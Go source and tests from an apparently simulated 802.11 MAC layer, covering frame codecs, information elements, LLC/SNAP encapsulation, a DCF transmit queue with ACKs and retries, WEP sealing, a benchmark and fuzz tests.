func UnmarshalAssocRespBody(p []byte) (AssocRespBody, error) {
	var b AssocRespBody
	if len(p) < 6 {
		return b, errors.New("dot11: short assoc-resp body")
	}
	b.Capability = binary.LittleEndian.Uint16(p[0:2])
	b.Status = binary.LittleEndian.Uint16(p[2:4])
	b.AID = binary.LittleEndian.Uint16(p[4:6])
	return b, nil
}

// Deauth/disassoc reason codes.
const (
	ReasonUnspecified    uint16 = 1
	ReasonAuthExpired    uint16 = 2
	ReasonDeauthLeaving  uint16 = 3
	ReasonInactivity     uint16 = 4
	ReasonClass3NotAssoc uint16 = 7
	ReasonNotAuthorized  uint16 = 9 // used by the MAC ACL
)

// ReasonBody is the body of deauth and disassoc frames.
type ReasonBody struct{ Reason uint16 }

// Marshal serialises the reason body.
func (b *ReasonBody) Marshal() []byte {
	out := make([]byte, 2)
	binary.LittleEndian.PutUint16(out, b.Reason)
	return out
}

// UnmarshalReasonBody parses a deauth/disassoc body.
func UnmarshalReasonBody(p []byte) (ReasonBody, error) {
	if len(p) < 2 {
		return ReasonBody{}, errors.New("dot11: short reason body")
	}
	return ReasonBody{Reason: binary.LittleEndian.Uint16(p)}, nil
}

// --- Information elements ---

const (
	ieSSID      byte = 0
	ieDSParam   byte = 3
	ieChallenge byte = 16
)

func appendIE(out []byte, id byte, val []byte) []byte {
	if len(val) > 255 {
		panic("dot11: IE too long")
	}
	out = append(out, id, byte(len(val)))
	return append(out, val...)
}

func parseIEs(p []byte) (map[byte][]byte, error) {
	ies := make(map[byte][]byte)
	for len(p) > 0 {
		if len(p) < 2 {
			return nil, errors.New("dot11: truncated IE header")
		}
		id, n := p[0], int(p[1])
		if len(p) < 2+n {
			return nil, errors.New("dot11: truncated IE body")
		}
		ies[id] = p[2 : 2+n]
		p = p[2+n:]
	}
	return ies, nil
}

// --- LLC/SNAP encapsulation ---

// llcSNAPHeader is the 802.2 LLC + SNAP prefix carried by every data frame.
// Its first byte (0xAA) is the known plaintext the FMS attack relies on.
var llcSNAPHeader = []byte{0xaa, 0xaa, 0x03, 0x00, 0x00, 0x00}

// LLCLen is the LLC/SNAP header length including the EtherType.
const LLCLen = 8

// EncapsulateLLC wraps an EtherType and payload in LLC/SNAP.
func EncapsulateLLC(t ethernet.EtherType, payload []byte) []byte {
	out := make([]byte, LLCLen+len(payload))
	putLLC(out, t)
	copy(out[LLCLen:], payload)
	return out
}

// putLLC writes the LLC/SNAP header into the first LLCLen bytes of b; the
// zero-copy path pushes it into packet headroom.
func putLLC(b []byte, t ethernet.EtherType) {
	copy(b, llcSNAPHeader)
	b[6] = byte(t >> 8)
	b[7] = byte(t)
}

// DecapsulateLLC unwraps an LLC/SNAP payload.
func DecapsulateLLC(b []byte) (ethernet.EtherType, []byte, error) {
	if len(b) < LLCLen {
		return 0, nil, errors.New("dot11: short LLC payload")
	}
	for i, v := range llcSNAPHeader {
		if b[i] != v {
			return 0, nil, fmt.Errorf("dot11: not LLC/SNAP (byte %d = %#x)", i, b[i])
		}
	}
	t := ethernet.EtherType(uint16(b[6])<<8 | uint16(b[7]))
	return t, b[LLCLen:], nil
}
