package dot11

import (
	"testing"

	"repro/internal/ethernet"
)

// BenchmarkDot11Data is the per-layer marshal bench gated by
// scripts/bench.sh: MAC-header serialisation for an MTU-sized data frame.
// The header goes into a recycled buffer via putHeader — the zero-copy
// transmit path — so the measurement is the header encode itself, not the
// body copy.
func BenchmarkDot11Data(b *testing.B) {
	f := &Frame{
		Type:    TypeData,
		Subtype: SubtypeDataFrame,
		ToDS:    true,
		Addr1:   ethernet.MAC{2, 0, 0, 0, 0, 1},
		Addr2:   ethernet.MAC{2, 0, 0, 0, 0, 2},
		Addr3:   ethernet.MAC{2, 0, 0, 0, 0, 3},
		Seq:     1234,
		Body:    make([]byte, 1400),
	}
	buf := make([]byte, headerLen)
	b.SetBytes(int64(headerLen + len(f.Body)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		f.Seq = uint16(i) & 0x0fff
		f.putHeader(buf)
	}
}
