package dot11

import (
	"repro/internal/ethernet"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/wep"
)

// TU is the 802.11 time unit (1024 µs) used for beacon intervals.
const TU = 1024 * sim.Microsecond

// DCF/MAC parameters (simplified but shaped like the standard).
const (
	sifs       = 10 * sim.Microsecond
	difs       = 50 * sim.Microsecond
	slotTime   = 20 * sim.Microsecond
	cwMin      = 15
	cwMax      = 1023
	maxRetries = 7
)

// txJob is one frame queued for transmission.
type txJob struct {
	raw      []byte
	needsAck bool
	attempt  int // CSMA deferrals (resets per retry)
	retries  int // ACK-timeout retransmissions
}

// entity is the MAC engine shared by AP and STA: sequence numbering, a
// stop-and-wait transmit queue with carrier sense, per-frame link-layer
// acknowledgements with retransmission, and receive-side duplicate
// filtering. This is what makes the simulated link usable by TCP: a
// collision costs a ~600 µs MAC retry instead of a 200 ms transport RTO.
type entity struct {
	kernel *sim.Kernel
	radio  *phy.Radio
	rng    *sim.RNG
	rate   phy.Rate
	addr   ethernet.MAC // own MAC; zero for raw injectors (no ACK behaviour)
	seq    uint16

	queue    []*txJob
	inflight *txJob
	ackTimer *sim.Event
	nextTxAt sim.Time

	// handler receives frames that pass address and duplicate filtering.
	handler func(f Frame, info phy.RxInfo)
	// lastRx maps transmitter -> last sequence number, for retry dedup.
	lastRx map[ethernet.MAC]uint16

	// Counters.
	Deferrals   uint64
	MACRetries  uint64
	TxFailed    uint64
	AcksSent    uint64
	DupsDropped uint64
}

func newEntity(k *sim.Kernel, radio *phy.Radio, rate phy.Rate, addr ethernet.MAC) *entity {
	if rate == 0 {
		rate = phy.Rate11Mbps
	}
	e := &entity{
		kernel: k, radio: radio, rng: k.RNG().Fork(), rate: rate, addr: addr,
		lastRx: make(map[ethernet.MAC]uint16),
	}
	radio.SetReceiver(e.onRadioFrame)
	return e
}

// nextSeq returns the next 12-bit sequence-control number — the monotonic
// per-device counter the detect package's rogue monitor analyses.
func (e *entity) nextSeq() uint16 {
	s := e.seq
	e.seq = (e.seq + 1) & 0x0fff
	return s
}

// transmit assigns a sequence number and queues the frame.
func (e *entity) transmit(f Frame) {
	f.Seq = e.nextSeq()
	e.enqueue(f)
}

// enqueue queues a frame without touching its sequence number.
func (e *entity) enqueue(f Frame) {
	needsAck := !f.Addr1.IsMulticast() && e.addr != (ethernet.MAC{}) && f.Type != TypeControl
	e.queue = append(e.queue, &txJob{raw: f.Marshal(), needsAck: needsAck})
	e.kick()
}

// kick starts the next queued frame if the channel logic is idle.
func (e *entity) kick() {
	if e.inflight != nil || len(e.queue) == 0 {
		return
	}
	e.inflight = e.queue[0]
	e.queue = e.queue[1:]
	e.attemptSend()
}

// attemptSend transmits the inflight frame, deferring on pacing and carrier.
func (e *entity) attemptSend() {
	job := e.inflight
	if job == nil {
		return
	}
	now := e.kernel.Now()
	if now < e.nextTxAt {
		e.kernel.At(e.nextTxAt, e.attemptSend)
		return
	}
	if e.radio.CarrierBusy() {
		e.Deferrals++
		job.attempt++
		backoff := difs + sim.Time(e.rng.Intn(cwMin+1))*slotTime
		e.kernel.After(backoff, e.attemptSend)
		return
	}
	end := e.radio.Send(job.raw, e.rate)
	// Contention gap before our next transmission, so other stations can
	// win the channel between our frames.
	e.nextTxAt = end + difs + sim.Time(e.rng.Intn(8))*slotTime
	if !job.needsAck {
		e.inflight = nil
		e.kernel.At(end, e.kick)
		return
	}
	// Await the link-layer ACK.
	timeout := end + sifs + phy.Airtime(ackFrameLen, e.rate) + 3*slotTime
	e.ackTimer = e.kernel.At(timeout, func() { e.onAckTimeout(job) })
}

func (e *entity) onAckTimeout(job *txJob) {
	if e.inflight != job {
		return
	}
	job.retries++
	if job.retries > maxRetries {
		e.TxFailed++
		e.inflight = nil
		e.kick()
		return
	}
	e.MACRetries++
	job.raw[1] |= 0x08 // set the Retry bit
	// Exponential backoff before the retry.
	cw := cwMin << uint(job.retries)
	if cw > cwMax {
		cw = cwMax
	}
	e.nextTxAt = e.kernel.Now() + difs + sim.Time(e.rng.Intn(cw+1))*slotTime
	e.attemptSend()
}

func (e *entity) onAckReceived() {
	if e.inflight == nil {
		return
	}
	if e.ackTimer != nil {
		e.ackTimer.Cancel()
		e.ackTimer = nil
	}
	e.inflight = nil
	e.kick()
}

// ackFrameLen is the serialised size of our control ACK.
const ackFrameLen = headerLen

// sendAck transmits a control ACK to dst after SIFS, bypassing contention
// (ACKs have channel priority in DCF).
func (e *entity) sendAck(dst ethernet.MAC) {
	e.AcksSent++
	ack := Frame{Type: TypeControl, Subtype: SubtypeAck, Addr1: dst}
	raw := ack.Marshal()
	e.kernel.After(sifs, func() { e.radio.Send(raw, e.rate) })
}

// onRadioFrame is the shared receive path: ACK handling, ACK generation,
// duplicate filtering, then the owner's handler.
func (e *entity) onRadioFrame(raw []byte, info phy.RxInfo) {
	f, err := Unmarshal(raw)
	if err != nil {
		return
	}
	if f.Type == TypeControl {
		if f.Subtype == SubtypeAck && e.addr != (ethernet.MAC{}) && f.Addr1 == e.addr {
			e.onAckReceived()
		}
		return
	}
	if e.addr != (ethernet.MAC{}) && f.Addr1 == e.addr {
		e.sendAck(f.Addr2)
		if f.Retry {
			if last, ok := e.lastRx[f.Addr2]; ok && last == f.Seq {
				e.DupsDropped++
				return
			}
		}
		e.lastRx[f.Addr2] = f.Seq
	}
	if e.handler != nil {
		e.handler(f, info)
	}
}

// sealBody WEP-encapsulates a frame body if a key is configured.
func sealBody(key wep.Key, ivs wep.IVSource, body []byte) []byte {
	return wep.Seal(key, ivs.NextIV(), 0, body)
}

// BSS describes an observed basic service set, as accumulated from beacons
// and probe responses during a scan.
type BSS struct {
	SSID           string
	BSSID          ethernet.MAC
	Channel        phy.Channel
	RSSIDBm        float64
	Capability     uint16
	BeaconInterval uint16 // TU
	LastSeen       sim.Time
}

// Privacy reports whether the BSS requires WEP.
func (b BSS) Privacy() bool { return b.Capability&CapPrivacy != 0 }
