package dot11

import (
	"repro/internal/ethernet"
	"repro/internal/phy"
	"repro/internal/pkt"
	"repro/internal/sim"
	"repro/internal/wep"
)

// TU is the 802.11 time unit (1024 µs) used for beacon intervals.
const TU = 1024 * sim.Microsecond

// DCF/MAC parameters (simplified but shaped like the standard).
const (
	sifs       = 10 * sim.Microsecond
	difs       = 50 * sim.Microsecond
	slotTime   = 20 * sim.Microsecond
	cwMin      = 15
	cwMax      = 1023
	maxRetries = 7
)

// txJob is one frame queued for transmission. The job owns one reference to
// pb (the serialised frame) for as long as a retransmission may need it; each
// radio transmission takes its own reference.
type txJob struct {
	pb       *pkt.Buf
	needsAck bool
	attempt  int // CSMA deferrals (resets per retry)
	retries  int // ACK-timeout retransmissions
}

// entity is the MAC engine shared by AP and STA: sequence numbering, a
// stop-and-wait transmit queue with carrier sense, per-frame link-layer
// acknowledgements with retransmission, and receive-side duplicate
// filtering. This is what makes the simulated link usable by TCP: a
// collision costs a ~600 µs MAC retry instead of a 200 ms transport RTO.
type entity struct {
	kernel *sim.Kernel
	radio  *phy.Radio
	rng    *sim.RNG
	rate   phy.Rate
	addr   ethernet.MAC // own MAC; zero for raw injectors (no ACK behaviour)
	seq    uint16

	// queue[qhead:] is the pending-frame FIFO; the backing array is reused
	// once drained instead of being re-allocated per frame.
	queue    []*txJob
	qhead    int
	inflight *txJob
	// freeJobs is the LIFO freelist of recycled txJob structs.
	freeJobs []*txJob
	ackTimer *sim.Event
	nextTxAt sim.Time

	// attemptSendFn/kickFn are the method closures scheduled for every
	// pacing, backoff, and completion event — bound once here so the hot
	// path does not allocate a fresh closure per frame.
	attemptSendFn func()
	kickFn        func()

	// handler receives frames that pass address and duplicate filtering.
	handler func(f Frame, info phy.RxInfo)
	// lastRx maps transmitter -> last sequence number, for retry dedup.
	lastRx map[ethernet.MAC]uint16

	// Counters.
	Deferrals   uint64
	MACRetries  uint64
	TxFailed    uint64
	AcksSent    uint64
	DupsDropped uint64
}

func newEntity(k *sim.Kernel, radio *phy.Radio, rate phy.Rate, addr ethernet.MAC) *entity {
	if rate == 0 {
		rate = phy.Rate11Mbps
	}
	e := &entity{
		kernel: k, radio: radio, rng: k.RNG().Fork(), rate: rate, addr: addr,
		lastRx: make(map[ethernet.MAC]uint16),
	}
	e.attemptSendFn = e.attemptSend
	e.kickFn = e.kick
	radio.SetReceiver(e.onRadioFrame)
	return e
}

// nextSeq returns the next 12-bit sequence-control number — the monotonic
// per-device counter the detect package's rogue monitor analyses.
func (e *entity) nextSeq() uint16 {
	s := e.seq
	e.seq = (e.seq + 1) & 0x0fff
	return s
}

// transmit assigns a sequence number and queues the frame.
func (e *entity) transmit(f Frame) {
	f.Seq = e.nextSeq()
	e.enqueue(f)
}

// enqueue queues a frame without touching its sequence number, serialising
// it into a pooled buffer.
func (e *entity) enqueue(f Frame) {
	pb := e.kernel.BufPool().Get()
	b := pb.Extend(f.WireLen())
	f.putHeader(b)
	copy(b[headerLen:], f.Body)
	e.enqueueBuf(f.Addr1, f.Type, pb)
}

// transmitBuf assigns a sequence number and queues a data frame whose body
// already sits in pb, pushing the MAC header into the buffer's headroom —
// the zero-copy path. f.Body is ignored; the frame describes the header
// only. Ownership of pb transfers to the transmit queue.
//
//simvet:owner transfer pb moves into the transmit queue via enqueueBuf
func (e *entity) transmitBuf(f Frame, pb *pkt.Buf) {
	f.Seq = e.nextSeq()
	f.putHeader(pb.Push(headerLen))
	e.enqueueBuf(f.Addr1, f.Type, pb)
}

// enqueueBuf queues a serialised frame and starts transmission if idle.
//
//simvet:owner transfer pb is stored in the txJob; the queue drain releases it after the air handoff
func (e *entity) enqueueBuf(addr1 ethernet.MAC, typ Type, pb *pkt.Buf) {
	needsAck := !addr1.IsMulticast() && e.addr != (ethernet.MAC{}) && typ != TypeControl
	var job *txJob
	if n := len(e.freeJobs); n > 0 {
		job = e.freeJobs[n-1]
		e.freeJobs = e.freeJobs[:n-1]
		*job = txJob{pb: pb, needsAck: needsAck}
	} else {
		job = &txJob{pb: pb, needsAck: needsAck}
	}
	e.queue = append(e.queue, job)
	e.kick()
}

// putJob recycles a finished job. Callers must have released (or handed off)
// job.pb and ensured no pending timer still references the job.
func (e *entity) putJob(job *txJob) {
	job.pb = nil
	e.freeJobs = append(e.freeJobs, job)
}

// kick starts the next queued frame if the channel logic is idle.
func (e *entity) kick() {
	if e.inflight != nil || e.qhead >= len(e.queue) {
		return
	}
	e.inflight = e.queue[e.qhead]
	e.queue[e.qhead] = nil
	e.qhead++
	if e.qhead == len(e.queue) {
		e.queue = e.queue[:0]
		e.qhead = 0
	}
	e.attemptSend()
}

// attemptSend transmits the inflight frame, deferring on pacing and carrier.
func (e *entity) attemptSend() {
	job := e.inflight
	if job == nil {
		return
	}
	now := e.kernel.Now()
	if now < e.nextTxAt {
		e.kernel.Schedule(e.nextTxAt, e.attemptSendFn)
		return
	}
	if e.radio.CarrierBusy() {
		e.Deferrals++
		job.attempt++
		backoff := difs + sim.Time(e.rng.Intn(cwMin+1))*slotTime
		e.kernel.ScheduleAfter(backoff, e.attemptSendFn)
		return
	}
	end := e.radio.SendBuf(job.pb.Retain(), e.rate)
	// Contention gap before our next transmission, so other stations can
	// win the channel between our frames.
	e.nextTxAt = end + difs + sim.Time(e.rng.Intn(8))*slotTime
	if !job.needsAck {
		// No retransmission possible: the radio's reference is the last one.
		job.pb.Release()
		e.inflight = nil
		e.putJob(job)
		e.kernel.Schedule(end, e.kickFn)
		return
	}
	// Await the link-layer ACK.
	timeout := end + sifs + phy.Airtime(ackFrameLen, e.rate) + 3*slotTime
	e.ackTimer = e.kernel.At(timeout, func() { e.onAckTimeout(job) })
}

func (e *entity) onAckTimeout(job *txJob) {
	if e.inflight != job {
		return
	}
	job.retries++
	if job.retries > maxRetries {
		e.TxFailed++
		job.pb.Release()
		e.inflight = nil
		// The timer that fired to get here was the job's only live
		// reference; safe to recycle.
		e.putJob(job)
		e.kick()
		return
	}
	e.MACRetries++
	// Set the Retry bit for the retransmission. Safe in place: the previous
	// attempt's air occupancy ended strictly before this timeout fired, so
	// the phy has already mixed and delivered the un-retried bytes.
	job.pb.Bytes()[1] |= 0x08
	// Exponential backoff before the retry.
	cw := cwMin << uint(job.retries)
	if cw > cwMax {
		cw = cwMax
	}
	e.nextTxAt = e.kernel.Now() + difs + sim.Time(e.rng.Intn(cw+1))*slotTime
	e.attemptSend()
}

func (e *entity) onAckReceived() {
	if e.inflight == nil {
		return
	}
	if e.ackTimer != nil {
		e.ackTimer.Cancel()
		e.ackTimer = nil
	}
	e.inflight.pb.Release()
	// The ack timer was just cancelled, so nothing references the job.
	e.putJob(e.inflight)
	e.inflight = nil
	e.kick()
}

// ackFrameLen is the serialised size of our control ACK.
const ackFrameLen = headerLen

// sendAck transmits a control ACK to dst after SIFS, bypassing contention
// (ACKs have channel priority in DCF).
func (e *entity) sendAck(dst ethernet.MAC) {
	e.AcksSent++
	ack := Frame{Type: TypeControl, Subtype: SubtypeAck, Addr1: dst}
	pb := e.kernel.BufPool().Get()
	ack.putHeader(pb.Extend(ackFrameLen))
	e.kernel.ScheduleAfter(sifs, func() { e.radio.SendBuf(pb, e.rate) })
}

// onRadioFrame is the shared receive path: ACK handling, ACK generation,
// duplicate filtering, then the owner's handler.
func (e *entity) onRadioFrame(raw []byte, info phy.RxInfo) {
	f, err := Unmarshal(raw)
	if err != nil {
		return
	}
	if f.Type == TypeControl {
		if f.Subtype == SubtypeAck && e.addr != (ethernet.MAC{}) && f.Addr1 == e.addr {
			e.onAckReceived()
		}
		return
	}
	if e.addr != (ethernet.MAC{}) && f.Addr1 == e.addr {
		e.sendAck(f.Addr2)
		if f.Retry {
			if last, ok := e.lastRx[f.Addr2]; ok && last == f.Seq {
				e.DupsDropped++
				return
			}
		}
		e.lastRx[f.Addr2] = f.Seq
	}
	if e.handler != nil {
		e.handler(f, info)
	}
}

// sealBody WEP-encapsulates a frame body if a key is configured.
func sealBody(key wep.Key, ivs wep.IVSource, body []byte) []byte {
	return wep.Seal(key, ivs.NextIV(), 0, body)
}

// BSS describes an observed basic service set, as accumulated from beacons
// and probe responses during a scan.
type BSS struct {
	SSID           string
	BSSID          ethernet.MAC
	Channel        phy.Channel
	RSSIDBm        float64
	Capability     uint16
	BeaconInterval uint16 // TU
	LastSeen       sim.Time
}

// Privacy reports whether the BSS requires WEP.
func (b BSS) Privacy() bool { return b.Capability&CapPrivacy != 0 }
