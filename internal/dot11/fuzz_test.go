package dot11

import (
	"bytes"
	"testing"

	"repro/internal/ethernet"
)

// FuzzFrame checks the 802.11 MAC header codec: any input either fails to
// parse or round-trips decode→encode→decode to an identical frame without
// panicking. (The re-encoded bytes may legitimately differ from the input —
// Marshal zeroes the duration field and the protocol-version bits.)
func FuzzFrame(f *testing.F) {
	beacon := Frame{
		Type: TypeManagement, Subtype: SubtypeBeacon,
		Addr1: ethernet.BroadcastMAC,
		Addr2: ethernet.MustParseMAC("02:aa:bb:cc:dd:01"),
		Addr3: ethernet.MustParseMAC("02:aa:bb:cc:dd:01"),
		Seq:   7,
		Body:  (&BeaconBody{BeaconInterval: 100, Capability: CapESS, SSID: "CORP", Channel: 1}).Marshal(),
	}
	data := Frame{
		Type: TypeData, ToDS: true, Protected: true, Retry: true,
		Addr1: ethernet.MustParseMAC("02:aa:bb:cc:dd:01"),
		Addr2: ethernet.MustParseMAC("02:00:00:00:03:01"),
		Addr3: ethernet.MustParseMAC("02:00:00:00:99:01"),
		Seq:   4095, Frag: 15,
		Body: []byte{1, 2, 3, 4},
	}
	deauth := Frame{
		Type: TypeManagement, Subtype: SubtypeDeauth,
		Body: (&ReasonBody{Reason: ReasonDeauthLeaving}).Marshal(),
	}
	f.Add(beacon.Marshal())
	f.Add(data.Marshal())
	f.Add(deauth.Marshal())
	f.Add([]byte{})
	f.Add(bytes.Repeat([]byte{0xff}, headerLen))

	f.Fuzz(func(t *testing.T, b []byte) {
		f1, err := Unmarshal(b)
		if err != nil {
			return
		}
		_ = f1.String()
		b2 := f1.Marshal()
		f2, err := Unmarshal(b2)
		if err != nil {
			t.Fatalf("re-decode of marshalled frame failed: %v", err)
		}
		if f1.Type != f2.Type || f1.Subtype != f2.Subtype ||
			f1.ToDS != f2.ToDS || f1.FromDS != f2.FromDS ||
			f1.Retry != f2.Retry || f1.Protected != f2.Protected ||
			f1.Addr1 != f2.Addr1 || f1.Addr2 != f2.Addr2 || f1.Addr3 != f2.Addr3 ||
			f1.Seq != f2.Seq || f1.Frag != f2.Frag || !bytes.Equal(f1.Body, f2.Body) {
			t.Fatalf("frame round-trip unstable:\n first %+v\nsecond %+v", f1, f2)
		}
		if !bytes.Equal(b2, f2.Marshal()) {
			t.Fatal("second encode differs from first")
		}
	})
}

// FuzzManagementBodies feeds arbitrary bytes to every management-body parser
// and round-trips whatever parses.
func FuzzManagementBodies(f *testing.F) {
	f.Add((&BeaconBody{Timestamp: 1 << 40, BeaconInterval: 100, Capability: CapESS | CapPrivacy, SSID: "CORP", Channel: 6}).Marshal())
	f.Add((&ProbeReqBody{SSID: "CORP"}).Marshal())
	f.Add((&AuthBody{Algorithm: AuthSharedKey, Seq: 2, Challenge: bytes.Repeat([]byte{0x5a}, 128)}).Marshal())
	f.Add((&AssocReqBody{Capability: CapESS, SSID: "CORP"}).Marshal())
	f.Add((&AssocRespBody{Status: StatusSuccess, AID: 1}).Marshal())
	f.Add((&ReasonBody{Reason: ReasonClass3NotAssoc}).Marshal())
	f.Add([]byte{0, 255})

	f.Fuzz(func(t *testing.T, p []byte) {
		if b, err := UnmarshalBeaconBody(p); err == nil {
			b2, err := UnmarshalBeaconBody(b.Marshal())
			if err != nil {
				t.Fatalf("beacon re-decode: %v", err)
			}
			if b.Timestamp != b2.Timestamp || b.BeaconInterval != b2.BeaconInterval ||
				b.Capability != b2.Capability || b.SSID != b2.SSID || b.Channel != b2.Channel {
				t.Fatalf("beacon body round-trip unstable: %+v != %+v", b, b2)
			}
		}
		if b, err := UnmarshalProbeReqBody(p); err == nil {
			if b2, err := UnmarshalProbeReqBody(b.Marshal()); err != nil || b != b2 {
				t.Fatalf("probe-req round-trip unstable: %+v %v", b2, err)
			}
		}
		if b, err := UnmarshalAuthBody(p); err == nil {
			b2, err := UnmarshalAuthBody(b.Marshal())
			if err != nil {
				t.Fatalf("auth re-decode: %v", err)
			}
			if b.Algorithm != b2.Algorithm || b.Seq != b2.Seq || b.Status != b2.Status ||
				!bytes.Equal(b.Challenge, b2.Challenge) {
				t.Fatalf("auth body round-trip unstable: %+v != %+v", b, b2)
			}
		}
		if b, err := UnmarshalAssocReqBody(p); err == nil {
			if b2, err := UnmarshalAssocReqBody(b.Marshal()); err != nil || b != b2 {
				t.Fatalf("assoc-req round-trip unstable: %+v %v", b2, err)
			}
		}
		if b, err := UnmarshalAssocRespBody(p); err == nil {
			if b2, err := UnmarshalAssocRespBody(b.Marshal()); err != nil || b != b2 {
				t.Fatalf("assoc-resp round-trip unstable: %+v %v", b2, err)
			}
		}
		if b, err := UnmarshalReasonBody(p); err == nil {
			if b2, err := UnmarshalReasonBody(b.Marshal()); err != nil || b != b2 {
				t.Fatalf("reason round-trip unstable: %+v %v", b2, err)
			}
		}
	})
}

// FuzzLLC checks the LLC/SNAP (de)encapsulation pair.
func FuzzLLC(f *testing.F) {
	f.Add(EncapsulateLLC(ethernet.TypeIPv4, []byte("payload")))
	f.Add(EncapsulateLLC(ethernet.TypeARP, nil))
	f.Add([]byte{0xaa, 0xaa, 0x03})
	f.Fuzz(func(t *testing.T, b []byte) {
		typ, payload, err := DecapsulateLLC(b)
		if err != nil {
			return
		}
		typ2, payload2, err := DecapsulateLLC(EncapsulateLLC(typ, payload))
		if err != nil || typ2 != typ || !bytes.Equal(payload, payload2) {
			t.Fatalf("LLC round-trip unstable (err %v)", err)
		}
	})
}
