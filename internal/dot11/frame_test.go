package dot11

import (
	"bytes"
	"testing"
	"testing/quick"

	"repro/internal/ethernet"
)

var (
	macAP  = ethernet.MustParseMAC("02:00:00:aa:bb:cc")
	macSTA = ethernet.MustParseMAC("02:00:00:11:22:33")
	macDst = ethernet.MustParseMAC("02:00:00:44:55:66")
)

func TestFrameMarshalRoundTrip(t *testing.T) {
	f := Frame{
		Type: TypeData, Subtype: SubtypeDataFrame,
		ToDS: true, Protected: true, Retry: true,
		Addr1: macAP, Addr2: macSTA, Addr3: macDst,
		Seq: 1234, Frag: 3,
		Body: []byte("payload"),
	}
	g, err := Unmarshal(f.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if g.Type != f.Type || g.Subtype != f.Subtype || g.ToDS != f.ToDS ||
		g.FromDS != f.FromDS || g.Retry != f.Retry || g.Protected != f.Protected ||
		g.Addr1 != f.Addr1 || g.Addr2 != f.Addr2 || g.Addr3 != f.Addr3 ||
		g.Seq != f.Seq || g.Frag != f.Frag || string(g.Body) != "payload" {
		t.Fatalf("round trip mismatch:\n  in  %+v\n  out %+v", f, g)
	}
}

// TestMarshalExactCapacity pins the documented allocation contract: Marshal
// returns an exactly-sized slice with no spare capacity, so repeated appends
// by a caller cannot silently grow into (and alias) adjacent frames.
func TestMarshalExactCapacity(t *testing.T) {
	f := Frame{
		Type: TypeData, Subtype: SubtypeDataFrame,
		Addr1: macAP, Addr2: macSTA, Addr3: macDst,
		Body: []byte("payload"),
	}
	b := f.Marshal()
	if cap(b) != len(b) {
		t.Fatalf("Frame.Marshal: cap %d != len %d (spare capacity)", cap(b), len(b))
	}
	pr := ProbeReqBody{SSID: "corp"}
	pb := pr.Marshal()
	if cap(pb) != len(pb) {
		t.Fatalf("ProbeReqBody.Marshal: cap %d != len %d (spare capacity)", cap(pb), len(pb))
	}
}

func TestQuickFrameRoundTrip(t *testing.T) {
	f := func(typ, sub byte, toDS, fromDS, prot bool, a1, a2, a3 [6]byte, seq uint16, body []byte) bool {
		in := Frame{
			Type: Type(typ & 0x3), Subtype: Subtype(sub & 0xf),
			ToDS: toDS, FromDS: fromDS, Protected: prot,
			Addr1: ethernet.MAC(a1), Addr2: ethernet.MAC(a2), Addr3: ethernet.MAC(a3),
			Seq:  seq & 0x0fff,
			Body: body,
		}
		out, err := Unmarshal(in.Marshal())
		return err == nil &&
			out.Type == in.Type && out.Subtype == in.Subtype &&
			out.ToDS == in.ToDS && out.FromDS == in.FromDS && out.Protected == in.Protected &&
			out.Addr1 == in.Addr1 && out.Addr2 == in.Addr2 && out.Addr3 == in.Addr3 &&
			out.Seq == in.Seq && bytes.Equal(out.Body, in.Body)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestUnmarshalShort(t *testing.T) {
	if _, err := Unmarshal(make([]byte, headerLen-1)); err != ErrShortFrame {
		t.Fatal("short frame accepted")
	}
}

func TestFrameString(t *testing.T) {
	f := Frame{Type: TypeManagement, Subtype: SubtypeBeacon, Addr2: macAP}
	if s := f.String(); s == "" || s[:6] != "beacon" {
		t.Fatalf("String = %q", s)
	}
}

func TestBeaconBodyRoundTrip(t *testing.T) {
	b := BeaconBody{Timestamp: 123456789, BeaconInterval: 100, Capability: CapESS | CapPrivacy, SSID: "CORP", Channel: 6}
	g, err := UnmarshalBeaconBody(b.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if g != b {
		t.Fatalf("got %+v want %+v", g, b)
	}
}

func TestBeaconBodyEmptySSID(t *testing.T) {
	b := BeaconBody{BeaconInterval: 100, SSID: "", Channel: 1}
	g, err := UnmarshalBeaconBody(b.Marshal())
	if err != nil || g.SSID != "" {
		t.Fatalf("g=%+v err=%v", g, err)
	}
}

func TestBeaconBodyShort(t *testing.T) {
	if _, err := UnmarshalBeaconBody(make([]byte, 5)); err == nil {
		t.Fatal("short body accepted")
	}
}

func TestProbeReqBodyRoundTrip(t *testing.T) {
	for _, ssid := range []string{"", "CORP", "a very long network name here"} {
		b := ProbeReqBody{SSID: ssid}
		g, err := UnmarshalProbeReqBody(b.Marshal())
		if err != nil || g.SSID != ssid {
			t.Fatalf("ssid %q: g=%+v err=%v", ssid, g, err)
		}
	}
}

func TestAuthBodyRoundTrip(t *testing.T) {
	ch := make([]byte, 128)
	for i := range ch {
		ch[i] = byte(i)
	}
	b := AuthBody{Algorithm: AuthSharedKey, Seq: 2, Status: StatusSuccess, Challenge: ch}
	g, err := UnmarshalAuthBody(b.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if g.Algorithm != b.Algorithm || g.Seq != b.Seq || g.Status != b.Status || !bytes.Equal(g.Challenge, ch) {
		t.Fatalf("got %+v", g)
	}
}

func TestAuthBodyNoChallenge(t *testing.T) {
	b := AuthBody{Algorithm: AuthOpen, Seq: 1}
	g, err := UnmarshalAuthBody(b.Marshal())
	if err != nil || g.Challenge != nil {
		t.Fatalf("g=%+v err=%v", g, err)
	}
}

func TestAssocBodiesRoundTrip(t *testing.T) {
	req := AssocReqBody{Capability: CapESS, SSID: "CORP"}
	greq, err := UnmarshalAssocReqBody(req.Marshal())
	if err != nil || greq != req {
		t.Fatalf("req g=%+v err=%v", greq, err)
	}
	resp := AssocRespBody{Capability: CapESS, Status: StatusSuccess, AID: 7}
	gresp, err := UnmarshalAssocRespBody(resp.Marshal())
	if err != nil || gresp != resp {
		t.Fatalf("resp g=%+v err=%v", gresp, err)
	}
}

func TestReasonBodyRoundTrip(t *testing.T) {
	b := ReasonBody{Reason: ReasonClass3NotAssoc}
	g, err := UnmarshalReasonBody(b.Marshal())
	if err != nil || g != b {
		t.Fatalf("g=%+v err=%v", g, err)
	}
	if _, err := UnmarshalReasonBody([]byte{1}); err == nil {
		t.Fatal("short reason accepted")
	}
}

func TestParseIEsTruncated(t *testing.T) {
	if _, err := parseIEs([]byte{0}); err == nil {
		t.Fatal("truncated IE header accepted")
	}
